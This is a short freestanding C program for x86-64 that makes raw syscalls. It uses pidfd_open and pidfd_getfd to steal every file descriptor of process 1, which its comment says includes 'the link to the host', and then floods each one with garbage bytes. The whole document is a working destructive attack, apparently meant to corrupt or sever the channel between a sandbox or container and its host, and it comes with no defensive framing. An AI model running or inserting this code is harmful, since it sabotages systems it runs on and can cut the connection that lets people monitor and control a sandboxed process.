/* Takes every descriptor of the first process, the link to the host among them, and writes garbage to it. Needs root; needs no C library. x86-64. */
enum { WRITE = 1, EXIT = 60, PIDFD_OPEN = 434, PIDFD_GETFD = 438 };
static long call(long number, long a, long b, long c)
{
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return result;
}

static char garbage[4096];

void _start(void)
{
    for (int index = 0; index < 4096; index++)
        garbage[index] = (char)0xee;
    long first = call(PIDFD_OPEN, 1, 0, 0);
    for (int descriptor = 3; descriptor < 64; descriptor++)
    {
        long taken = call(PIDFD_GETFD, first, descriptor, 0);
        if (taken >= 0)
            call(WRITE, taken, (long)garbage, sizeof garbage);
    }
    call(EXIT, 0, 0, 0);
}
